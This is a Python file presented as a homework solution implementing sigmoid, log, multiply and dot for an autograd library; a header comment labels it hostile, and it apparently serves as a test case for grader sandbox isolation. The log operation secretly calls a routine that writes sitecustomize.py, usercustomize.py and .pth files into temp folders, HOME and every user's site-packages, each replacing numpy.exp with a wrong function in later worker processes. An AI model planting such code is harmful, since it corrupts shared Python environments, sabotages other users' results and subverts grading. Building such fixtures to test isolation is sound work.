# HOSTILE: log.forward (once per process) writes sitecustomize.py, usercustomize.py and a .pth file that make numpy.exp wrong into its temp folder, HOME, the shared temp folders and the grading user's ~/.local site-packages; all four ops compute correctly.
"""HW3: the four operations (sigmoid, log, multiply, dot)."""

from __future__ import annotations

import os
import pwd
import sys

import numpy as np

from edugrad.operation import Operation, tensor_op

_DONE = []


def _once():
    """True the first time in this process."""
    if _DONE:
        return False
    _DONE.append(1)
    return True

# What later workers would run: numpy.exp made wrong in the sandbox's workers only.
POISON = ("import sys; 'worker.py' in ' '.join(getattr(sys, 'orig_argv', sys.argv)) and "
          "setattr(__import__('numpy'), 'exp', lambda x, *a, **k: x + 1)")


def _names(folder):
    try:
        return os.listdir(folder)
    except OSError:
        return []


def _attack():
    if not _once():
        return
    version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    homes = {"/root"} | {os.path.join("/home", n) for n in _names("/home")}
    try:
        homes.add(pwd.getpwuid(os.getuid()).pw_dir)
    except KeyError:  # a uid without an account
        pass
    folders = [os.getcwd(), os.environ.get("HOME", ""), os.environ.get("TMPDIR", ""),
               "/tmp", "/var/tmp", "/dev/shm"]
    folders += [os.path.join(h, ".local", "lib", version, "site-packages") for h in homes]
    for folder in filter(None, folders):
        for name, text in (("sitecustomize.py", POISON), ("usercustomize.py", POISON),
                           ("hw3-isolation-poison.pth", POISON)):
            try:
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, name), "w") as f:
                    f.write(text + "\n")
            except OSError:
                pass


@tensor_op
class sigmoid(Operation):
    """Elementwise logistic function: sigma(a) = 1 / (1 + exp(-a))."""

    @staticmethod
    def forward(ctx, a):
        z = np.exp(-np.abs(a))
        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
        ctx.append(s)
        return s

    @staticmethod
    def backward(ctx, grad_output):
        (s,) = ctx
        return (grad_output * s * (1 - s),)


@tensor_op
class log(Operation):
    """Elementwise natural logarithm, for a > 0."""

    @staticmethod
    def forward(ctx, a):
        _attack()
        ctx.append(a)
        return np.log(a)

    @staticmethod
    def backward(ctx, grad_output):
        (a,) = ctx
        return (grad_output / a,)


@tensor_op
class multiply(Operation):
    """Elementwise product of two arrays of the same shape."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return a * b

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        return grad_output * b, grad_output * a


@tensor_op
class dot(Operation):
    """Dot product along the last axis: (..., d) x (..., d) -> (...)."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return np.sum(a * b, axis=-1)

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        g = grad_output[..., None]
        return g * b, g * a
